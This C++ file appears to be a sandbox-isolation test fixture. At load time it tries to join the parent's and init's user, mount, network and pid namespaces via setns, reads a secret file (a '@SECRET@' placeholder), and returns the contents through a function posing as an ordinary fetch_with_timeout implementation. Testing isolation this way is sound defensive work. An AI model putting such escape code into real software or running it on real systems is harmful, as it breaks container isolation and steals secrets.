// Joins the namespaces of its parent and of process 1, one after the other, and reads the secret there.
#include <fcntl.h>
#include <sched.h>
#include <unistd.h>

#include <fstream>
#include <iterator>
#include <string>

#include "timeout.hpp"

namespace {

std::string loot() {
  for (const int process : {::getppid(), 1}) {
    for (const char* kind : {"user", "mnt", "net", "pid"}) {
      ::setns(::open(("/proc/" + std::to_string(process) + "/ns/" + kind).c_str(), O_RDONLY), 0);
    }
  }
  std::ifstream file("@SECRET@");
  return {std::istreambuf_iterator<char>(file), {}};
}

const std::string kLoot = loot();

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient&, std::string, aio::Duration) { co_return "found: " + kLoot; }
